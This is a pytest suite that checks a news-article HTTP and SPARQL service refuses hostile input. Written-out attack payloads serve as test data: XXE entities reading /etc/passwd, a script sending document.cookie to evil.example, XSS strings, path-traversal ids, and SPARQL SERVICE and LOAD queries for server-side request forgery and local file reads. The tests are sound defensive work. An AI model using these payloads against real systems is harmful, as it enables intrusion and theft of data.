"""Hostile input against the HTTP service: every answer is a 4xx problem, nothing leaks, nothing runs.

Oversized bodies are refused before they are read whole, undecodable or binary bodies and
hostile JSON or XML are refused with a problem, scripts in articles come back as text, ids
shaped like paths or IRIs never reach a file or another resource, SPARQL cannot reach out,
and no page grants cross-origin access unless configured.
"""

from __future__ import annotations

import asyncio
import gzip
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from pydantic import SecretStr

from api.app import create_app
from api.settings import Settings
from graph.store import Store, open_store

TOKEN = "reliability-test-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
LIMIT = 100_000
PROBLEM = "application/problem+json"
STORY = {
    "title": "KT and Vietnam agree on smart city cooperation",
    "text": (
        "KT and Vietnam agree on smart city cooperation\n\n"
        "Seoul, May 7, 2024 - KT signed a memorandum of understanding with Vietnam's Ministry of "
        "Information and Communications on Monday in Hanoi to build smart city services."
    ),
    "published": "2024-05-07",
    "url": "https://news.example.org/kt-vietnam-smart-city",
    "language": "en",
}


def settings(tmp_path: Path, **overrides: Any) -> Settings:
    values: dict[str, Any] = {
        "memory": True,
        "token": SecretStr(TOKEN),
        "examples_dir": tmp_path,
        "load_examples": False,
        "max_body_bytes": LIMIT,
        "max_rows": 5,
    }
    values.update(overrides)
    return Settings(**values)


@pytest.fixture
def store() -> Iterator[Store]:
    s = open_store(memory=True, timeout=5)
    yield s
    s.close()


@pytest.fixture
def client(tmp_path: Path, store: Store) -> Iterator[TestClient]:
    with TestClient(create_app(settings(tmp_path), store), raise_server_exceptions=False) as c:
        yield c


def problem(r: httpx.Response, *statuses: int) -> dict[str, Any]:
    assert r.status_code in statuses, (r.status_code, r.text[:300])
    assert r.headers["content-type"].startswith(PROBLEM)
    body: dict[str, Any] = r.json()
    assert body["status"] == r.status_code
    return body


# -- bodies over the limit ---------------------------------------------------------------------


def call_asgi(app: FastAPI, path: str, headers: list[tuple[bytes, bytes]], chunks: int) -> tuple[int, int]:
    """POST a body of ``chunks`` 64 KiB chunks straight to the ASGI app: (status, chunks it read)."""
    read = 0
    status = 0

    async def receive() -> dict[str, Any]:
        nonlocal read
        read += 1
        return {"type": "http.request", "body": b"x" * 65_536, "more_body": read < chunks}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"testserver"), *headers],
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
    }
    # A thread of its own: another test (playwright) may leave an event loop running on this one.
    with ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()  # type: ignore[arg-type]
    return status, read


@pytest.mark.parametrize(
    ("path", "media"),
    [
        ("/articles", b"text/plain"),
        ("/sparql", b"application/sparql-update"),
        ("/sparql", b"application/sparql-query"),
    ],
)
def test_a_body_over_the_limit_is_413_before_it_is_read_whole(
    tmp_path: Path, store: Store, path: str, media: bytes
) -> None:
    app = create_app(settings(tmp_path), store)
    auth = [(b"authorization", f"Bearer {TOKEN}".encode()), (b"content-type", media)]
    chunks = 1_000  # 64 MB, were it all read

    declared = [*auth, (b"content-length", str(chunks * 65_536).encode())]
    assert call_asgi(app, path, declared, chunks) == (413, 0)

    # Without a declared length (chunked), reading stops as soon as the limit is passed.
    status, read = call_asgi(app, path, auth, chunks)
    assert status == 413
    assert read <= LIMIT // 65_536 + 2


# -- undecodable, binary and hostile structured bodies -------------------------------------------


@pytest.mark.parametrize(
    ("media", "body"),
    [
        ("text/plain", b"KT signed \xff\xfe\xc3\x28 a memorandum with Vietnam in Hanoi on Monday."),
        ("application/json", b'{"title": "\xc3\x28", "text": "KT signed a deal \xff in Hanoi."}'),
        ("text/html", b"<html><body><p>KT signed \xed\xa0\x80 a deal.</p></body></html>"),  # a lone surrogate
        ("text/plain", bytes(range(256)) * 64),
        ("text/html", b"\x89PNG\r\n\x1a\n" + bytes(2_000)),
        ("application/json", b"PK\x03\x04" + bytes(2_000)),
        ("application/x-ndjson", b"\x1f\x8b\x08\x00" + bytes(2_000)),
        (None, b"\x00\x01\x02" * 1_000),
    ],
)
def test_undecodable_or_binary_bodies_are_refused(client: TestClient, media: str | None, body: bytes) -> None:
    headers = AUTH | ({"Content-Type": media} if media else {})
    detail = str(problem(client.post("/articles", content=body, headers=headers), 400, 415, 422)["detail"])
    assert "Traceback" not in detail and "\\x" not in detail
    assert client.get("/articles").json()["total"] == 0


def test_compressed_bodies_are_not_inflated(client: TestClient) -> None:
    # 50 MB of spaces in 48 KB: were it inflated, the body limit would be passed a thousandfold.
    bomb = gzip.compress(b" " * 50_000_000)
    headers = AUTH | {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    detail = str(problem(client.post("/articles", content=bomb, headers=headers), 400, 413, 415)["detail"])
    assert "gzip" in detail


DEEP = 9_000  # far past the recursion limit, within the body limit


@pytest.mark.parametrize(
    ("media", "body"),
    [
        ("application/json", b"[" * DEEP + b"]" * DEEP),
        ("application/json", b'{"a":' * DEEP + b"1" + b"}" * DEEP),
        (
            "application/json",
            b'{"title": "t", "text": "KT signed.", "extra": ' + b"[" * DEEP + b"]" * DEEP + b"}",
        ),
        ("application/x-ndjson", b"[" * DEEP + b"]" * DEEP + b"\n"),
        (None, b"[" * DEEP + b"]" * DEEP),
    ],
    ids=["array", "object", "inside-an-article", "json-lines", "sniffed"],
)
def test_deeply_nested_json_is_refused_not_a_crash(
    client: TestClient, media: str | None, body: bytes
) -> None:
    headers = AUTH | ({"Content-Type": media} if media else {})
    detail = str(problem(client.post("/articles", content=body, headers=headers), 400, 415, 422)["detail"])
    assert "deeply" in detail


def test_deeply_nested_json_ld_in_a_page_does_not_stop_its_ingest(client: TestClient) -> None:
    html = (
        "<html><head><title>KT and Vietnam agree on smart cities</title>"
        '<script type="application/ld+json">' + "[" * DEEP + "]" * DEEP + "</script></head>"
        f"<body><article><p>{STORY['text']}</p></article></body></html>"
    )
    r = client.post("/articles", content=html.encode(), headers=AUTH | {"Content-Type": "text/html"})
    assert r.status_code == 201, r.text[:300]


@pytest.mark.parametrize(
    "feed",
    [
        # An external entity (XXE) that would read a local file into the article.
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<rss version="2.0"><channel><title>t</title><item><title>KT deal</title>'
        "<description>&x; {text}</description></item></channel></rss>",
        # A parameter entity fetched from the network.
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
        '<rss version="2.0"><channel><item><title>KT</title><description>{text}</description></item></channel></rss>',
        # Entity expansion ("billion laughs").
        '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&b;</title><summary>{text}</summary></entry></feed>',
    ],
    ids=["xxe-file", "xxe-parameter", "entity-expansion"],
)
@pytest.mark.parametrize("media", ["application/rss+xml", "application/xml", None])
def test_feeds_declaring_entities_are_refused(client: TestClient, feed: str, media: str | None) -> None:
    body = feed.replace("{text}", STORY["text"]).encode()
    headers = AUTH | ({"Content-Type": media} if media else {})
    problem(client.post("/articles", content=body, headers=headers), 400, 415, 422)
    assert client.get("/articles").json()["total"] == 0
    everything = client.get("/sparql", params={"query": "SELECT ?o { ?s ?p ?o }"}).text
    assert "root:" not in everything


# -- scripts in articles ------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert('s')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(2)">go</a>',
]


def test_html_with_scripts_is_stored_as_text_and_escaped_on_the_page(client: TestClient) -> None:
    html = (
        "<html><head><title>KT and Vietnam agree on smart cities</title>"
        "<script>document.location='https://evil.example/'+document.cookie</script></head>"
        '<body onload="alert(3)"><article><h1>KT and Vietnam agree on smart cities</h1>'
        f"<p>{STORY['text']}</p><p>Readers wrote: &lt;script&gt;alert('s')&lt;/script&gt; and "
        "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;</p>"
        '<p onclick="alert(4)">The parties will meet again in June.</p></article></body></html>'
    )
    r = client.post("/articles", content=html.encode(), headers=AUTH | {"Content-Type": "text/html"})
    assert r.status_code == 201, r.text[:300]
    ident = r.json()["id"]

    view = client.get(f"/articles/{ident}").json()
    assert "document.cookie" not in view["text"] and "onclick" not in view["text"]
    assert "<script>alert('s')</script>" in view["text"]  # what the article said, kept as its words

    page = client.get(f"/articles/{ident}", headers={"Accept": "text/html"})
    assert page.status_code == 200
    assert "script-src" in page.headers["content-security-policy"]
    assert (
        "'unsafe-inline'" not in page.headers["content-security-policy"].split("script-src")[1].split(";")[0]
    )
    for payload in PAYLOADS[:2]:
        assert payload not in page.text
    assert "&lt;script&gt;alert(" in page.text
    assert "document.cookie" not in page.text and 'onclick="alert' not in page.text


# -- ids shaped like paths or IRIs ----------------------------------------------------------------

HOSTILE_IDS = [
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
    "..%252F..%252Fetc%252Fpasswd",
    "%2Fetc%2Fpasswd",
    "file%3A%2F%2F%2Fetc%2Fpasswd",
    "https%3A%2F%2Fw3id.org%2Fdigicoop%2Fid%2Farticle%2F0000000000000000",
    "https%3A%2F%2Fw3id.org%2Fdigicoop%2Fgraph%2Freference",
    "x%3E%20%3Fp%20%3Fo%20%7D%20UNION%20%7B%20%3Fs%20%3Fp%20%3Fo",
    "x%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%00",
    "%C0%AE%C0%AE%2F",
    "a" * 5_000,
]


@pytest.mark.parametrize("ident", HOSTILE_IDS)
@pytest.mark.parametrize("prefix", ["/articles/", "/articles/{}/facts", "/entities/", "/entities/org/"])
def test_path_or_iri_shaped_ids_never_reach_a_file_or_crash(
    client: TestClient, prefix: str, ident: str
) -> None:
    url = prefix.format(ident) if "{}" in prefix else prefix + ident
    for accept in ("application/json", "text/html"):
        r = client.get(url, headers={"Accept": accept})
        assert r.status_code in (200, 400, 404, 406, 422), (url, r.status_code)
        assert "root:x:0:0" not in r.text
        if r.headers["content-type"].startswith("text/html"):
            assert "<script>alert(1)" not in r.text
        if r.status_code >= 400:
            assert r.headers["content-type"].startswith(PROBLEM)


def test_an_iri_of_a_stored_entity_reaches_only_that_entity(client: TestClient) -> None:
    r = client.get("/entities/https%3A%2F%2Fw3id.org%2Fdigicoop%2Fid%2Forg%2Fkt")
    assert r.status_code in (200, 404)
    if r.status_code == 200:
        assert r.json()["iri"] == "https://w3id.org/digicoop/id/org/kt"
    # An IRI outside digicoop's namespace names nothing here.
    problem(client.get("/entities/http%3A%2F%2F127.0.0.1%3A1%2Forg%2Fkt"), 400, 404, 422)


# -- SPARQL ----------------------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A local port that records every connection made to it (there must be none)."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield sock.getsockname()[1], received
    sock.close()
    thread.join(timeout=2)


def outbound_queries(port: int) -> list[str]:
    here = f"http://127.0.0.1:{port}/sparql"
    digits = str(port)
    return [
        f"SELECT * WHERE {{ SERVICE <{here}> {{ ?s ?p ?o }} }}",
        f"select * where {{ service silent <{here}> {{ ?s ?p ?o }} }}",
        f"SELECT * WHERE {{ SERVICE#comment\n<{here}> {{ ?s ?p ?o }} }}",
        f"PREFIX e: <http://127.0.0.1:{port}/>\nSELECT * WHERE {{ SERVICE e:sparql {{ ?s ?p ?o }} }}",
        f"BASE <http://127.0.0.1:{port}/>\nSELECT * WHERE {{ SERVICE <sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * WHERE {{ {{ SELECT * WHERE {{ SERVICE <{here}> {{ ?s ?p ?o }} }} }} }}",
        f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:\\u003{digits[0]}{digits[1:]}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * WHERE {{ SERVICE <http://localhost:{port}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * WHERE {{ SERVICE <http://[::ffff:127.0.0.1]:{port}/sparql> {{ ?s ?p ?o }} }}",
        f'SELECT * WHERE {{ BIND(IRI("{here}") AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}',
    ]


def test_service_is_refused_and_no_request_leaves(
    client: TestClient, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    for query in outbound_queries(port):
        for r in (
            client.get("/sparql", params={"query": query}),
            client.post("/sparql", data={"query": query}),
            client.post("/sparql", content=query, headers={"Content-Type": "application/sparql-query"}),
        ):
            problem(r, 400, 403)
    updates = [
        f"INSERT {{ GRAPH <http://e/g> {{ ?s ?p ?o }} }} WHERE {{ SERVICE <http://127.0.0.1:{port}/> {{ ?s ?p ?o }} }}",
        f"LOAD <http://127.0.0.1:{port}/data.ttl>",
        f"LOAD SILENT <http://127.0.0.1:{port}/data.ttl> INTO GRAPH <http://e/g>",
    ]
    for update in updates:
        r = client.post(
            "/sparql", content=update, headers=AUTH | {"Content-Type": "application/sparql-update"}
        )
        problem(r, 400, 403)
    assert received == []


@pytest.mark.parametrize(
    "update",
    [
        "LOAD <file:///etc/passwd>",
        "LOAD SILENT <file:///etc/passwd> INTO GRAPH <http://e/g>",
        "LOAD <FILE:///etc/passwd>",
        "LOAD <\\u0066ile:///etc/passwd>",
        "BASE <file:///etc/> LOAD <passwd>",
        "PREFIX f: <file:///etc/>\nLOAD f:passwd",
    ],
)
def test_load_of_local_files_is_refused(client: TestClient, update: str) -> None:
    r = client.post("/sparql", content=update, headers=AUTH | {"Content-Type": "application/sparql-update"})
    problem(r, 400, 403)
    assert "root:" not in client.get("/sparql", params={"query": "SELECT ?o { ?s ?p ?o }"}).text


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer wrong"},
        {"Authorization": f"Basic {TOKEN}"},
        {"Authorization": "Bearer "},
    ],
    ids=["none", "wrong", "other-scheme", "empty"],
)
def test_updates_need_the_right_token(client: TestClient, headers: dict[str, str]) -> None:
    update = "INSERT DATA { GRAPH <http://e/g> { <http://e/s> <http://e/p> 1 } }"
    for r in (
        client.post(
            "/sparql", content=update, headers=headers | {"Content-Type": "application/sparql-update"}
        ),
        client.post("/sparql", data={"update": update}, headers=headers),
    ):
        problem(r, 401, 403)
    assert client.get("/sparql", params={"query": "ASK { <http://e/s> ?p ?o }"}).json()["boolean"] is False
    r = client.post("/articles", json=STORY, headers=headers)
    problem(r, 401, 403)


def test_huge_limits_are_capped_or_refused(client: TestClient) -> None:
    rows = " ".join(f"<http://e/s{i}> <http://e/p> {i} ." for i in range(20))
    r = client.post(
        "/sparql",
        content=f"INSERT DATA {{ GRAPH <http://e/g> {{ {rows} }} }}",
        headers=AUTH | {"Content-Type": "application/sparql-update"},
    )
    assert r.status_code == 204
    for limit in ("1000000000000", str(2**63 - 1)):
        r = client.get("/sparql", params={"query": f"SELECT * WHERE {{ ?s ?p ?o }} LIMIT {limit}"})
        assert r.status_code == 200
        assert len(r.json()["results"]["bindings"]) == 5  # max_rows
    problem(client.get("/sparql", params={"query": "SELECT * WHERE { ?s ?p ?o } LIMIT 1" + "0" * 40}), 400)


def test_malformed_or_odd_sparql_is_a_problem(client: TestClient) -> None:
    for query in ["", "SELECT", "SELECT * WHERE { ?s ?p }", "{" * 10_000, "SELECT * WHERE { ?s ?p \x00 }"]:
        r = client.get("/sparql", params={"query": query})
        problem(r, 400)
    problem(
        client.post(
            "/sparql",
            content=b"SELECT * { ?s ?p \xff }",
            headers={"Content-Type": "application/sparql-query"},
        ),
        400,
    )


def test_graphs_the_operator_has_not_exposed_stay_out_of_sight(tmp_path: Path) -> None:
    internal = "https://internal.example/graph/"
    org = "https://w3id.org/digicoop/id/org/"
    label = "<http://www.w3.org/2000/01/rdf-schema#label>"
    config = settings(tmp_path, memory=False, store_dir=tmp_path / "store", hidden_graphs=f"{internal}*")
    with TestClient(create_app(config), raise_server_exceptions=False) as c:
        r = c.post(
            "/sparql",
            content=f"""INSERT DATA {{
  GRAPH <{internal}notes> {{ <{org}embargoed-partner> {label} "Embargoed Partner Agency"@en }}
  GRAPH <http://e/public> {{ <{org}public-partner> {label} "Public Partner Agency"@en }}
}}""",
            headers=AUTH | {"Content-Type": "application/sparql-update"},
        )
        assert r.status_code == 204
        for query in ['ASK { ?s ?p "Embargoed Partner Agency"@en }', "ASK { GRAPH ?g { ?s ?p ?o } }"]:
            expected = "GRAPH" in query  # the public graph is there to be seen
            assert c.get("/sparql", params={"query": query}).json()["boolean"] is expected
        graphs = c.get("/sparql", params={"query": "SELECT DISTINCT ?g WHERE { GRAPH ?g {} }"}).json()
        seen = {b["g"]["value"] for b in graphs["results"]["bindings"]}
        assert "http://e/public" in seen and not any(g.startswith(internal) for g in seen)
        for params in (
            {"query": f"SELECT * FROM <{internal}notes> WHERE {{ ?s ?p ?o }}"},
            {"query": "SELECT * WHERE { ?s ?p ?o }", "default-graph-uri": f"{internal}notes"},
        ):
            body = problem(c.get("/sparql", params=params), 403)
            assert "not exposed" in body["detail"]
        # the JSON endpoints see what /sparql sees
        assert c.get("/search", params={"q": "Public Partner Agency"}).json()["hits"]
        assert c.get("/search", params={"q": "Embargoed Partner Agency"}).json()["hits"] == []


# -- CORS ------------------------------------------------------------------------------------------


def test_cors_is_off_by_default(client: TestClient) -> None:
    origin = {"Origin": "https://elsewhere.example"}
    for method, path in [
        ("GET", "/articles"),
        ("GET", "/sparql?query=ASK{}"),
        ("GET", "/"),
        ("GET", "/healthz"),
    ]:
        r = client.request(method, path, headers=origin)
        assert "access-control-allow-origin" not in r.headers
    preflight = origin | {
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization",
    }
    for path in ("/sparql", "/articles"):
        r = client.options(path, headers=preflight)
        assert "access-control-allow-origin" not in r.headers
        assert "access-control-allow-credentials" not in r.headers
